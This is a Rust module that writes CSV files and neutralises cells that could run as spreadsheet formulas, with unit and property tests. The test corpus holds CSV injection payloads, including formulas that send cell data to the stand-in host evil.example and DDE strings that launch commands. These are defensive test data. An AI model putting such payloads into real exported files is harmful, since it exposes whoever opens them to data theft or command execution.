//! Every CSV file mhsw writes goes through [`CsvFile`], so that no cell can run as a
//! formula when the file is opened in a spreadsheet (CSV injection). OWASP's rule: a cell
//! that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in
//! front. Cells holding a comma, quote or line break are quoted with inner quotes doubled
//! (RFC 4180), so a cell can never spill into the next; others stay bare, so files such as
//! the register's batch of numbers stay as plain as their readers expect. A plain number
//! (say `-3` or `+1.5`) is left as it is: it cannot be a formula.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let starts_a_formula = cell.starts_with(FORMULA_STARTS);
    let plain_number = cell.trim().parse::<f64>().is_ok_and(f64::is_finite);
    if starts_a_formula && !plain_number {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV file being written: headings, then rows, each cell neutralised.
pub struct CsvFile {
    w: csv::Writer<Vec<u8>>,
}

impl CsvFile {
    pub fn new<S: AsRef<str>>(headings: &[S]) -> CsvFile {
        let mut file = CsvFile {
            w: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Necessary)
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::new()),
        };
        file.row(headings);
        file
    }

    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        // Writing to a Vec<u8> cannot fail.
        let _ = self
            .w
            .write_record(cells.iter().map(|c| neutralise(c.as_ref()).into_owned()));
    }

    pub fn finish(self) -> String {
        let bytes = self.w.into_inner().unwrap_or_default();
        String::from_utf8(bytes).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Payloads from OWASP's CSV injection page and published spreadsheet exploits.
    const CORPUS: &[&str] = &[
        "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Click\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example?v=\", A2), \"//a\")",
        "-2+3+cmd|' /C calc'!'A1'",
        "@",
        "=",
    ];

    fn read_back(text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn no_cell_of_the_corpus_starts_a_formula_once_written() {
        let mut f = CsvFile::new(&["name", "note"]);
        for payload in CORPUS {
            f.row(&[*payload, "plain"]);
        }
        let text = f.finish();
        let rows = read_back(&text);
        assert_eq!(rows.len(), CORPUS.len() + 1);
        for (row, payload) in rows[1..].iter().zip(CORPUS) {
            assert!(!row[0].starts_with(FORMULA_STARTS), "{row:?}");
            assert_eq!(
                row[0],
                format!("'{payload}"),
                "the text is kept after the quote"
            );
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_alone() {
        for s in ["-3", "+1.5", "0.25", "SW12345", "O'Brien", "Team A", ""] {
            assert_eq!(neutralise(s), s);
        }
    }

    proptest! {
        #[test]
        fn whatever_is_written_reads_back_safe_and_whole(cell in ".{0,40}") {
            let mut f = CsvFile::new(&["c"]);
            f.row(&[cell.as_str()]);
            let rows = read_back(&f.finish());
            let got = &rows[1][0];
            let plain_number = cell.trim().parse::<f64>().is_ok_and(f64::is_finite);
            prop_assert!(plain_number || !got.starts_with(FORMULA_STARTS));
            let kept = got.strip_prefix('\'').filter(|_| got != &cell).unwrap_or(got);
            prop_assert_eq!(kept, cell.as_str());
        }
    }
}
